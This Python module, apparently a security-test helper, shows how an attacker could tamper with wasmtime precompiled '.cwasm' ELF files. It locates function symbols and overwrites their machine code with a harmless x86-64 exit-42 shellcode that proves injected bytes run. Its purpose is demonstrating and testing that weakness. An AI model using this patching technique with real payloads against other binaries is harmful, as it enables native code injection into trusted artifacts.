"""What an attacker does to a `.cwasm`: find its functions in the ELF symbol table and
overwrite their machine code. Pure Python (ELF64, little-endian, as wasmtime writes it)."""

from __future__ import annotations

import struct

__all__ = ["EXIT_42", "function_ranges", "patch_functions"]

# x86-64: mov eax, 231 (exit_group); mov edi, 42; syscall. Run as native code, the whole
# process exits with status 42 at once: proof that the patched bytes executed.
EXIT_42 = bytes.fromhex("b8e7000000" "bf2a000000" "0f05")

_SHT_SYMTAB = 2
_STT_FUNC = 2


def function_ranges(elf: bytes) -> list[tuple[str, int, int]]:
    """(symbol name, file offset, size) of every function symbol with code."""
    if elf[:4] != b"\x7fELF" or elf[4] != 2 or elf[5] != 1:
        raise ValueError("not a little-endian ELF64 file")
    shoff, = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize)
                for i in range(shnum)]
    found = []
    for _name, kind, _flags, _addr, offset, size, link, _info, _align, entsize in sections:
        if kind != _SHT_SYMTAB:
            continue
        strtab = sections[link]
        for pos in range(offset, offset + size, entsize):
            st_name, st_info, _other, st_shndx, st_value, st_size = struct.unpack_from(
                "<IBBHQQ", elf, pos)
            if st_info & 0xF != _STT_FUNC or st_size == 0 or st_shndx >= shnum:
                continue
            target = sections[st_shndx]
            name_at = strtab[4] + st_name
            name = elf[name_at:elf.index(b"\0", name_at)].decode()
            found.append((name, target[4] + st_value - target[3], st_size))
    return found


def patch_functions(elf: bytes, code: bytes = EXIT_42) -> bytes:
    """`elf` with the start of every function (long enough) replaced by `code`."""
    patched = bytearray(elf)
    count = 0
    for _name, offset, size in function_ranges(elf):
        if size >= len(code):
            patched[offset:offset + len(code)] = code
            count += 1
    if not count:
        raise ValueError("no function long enough to patch")
    return bytes(patched)
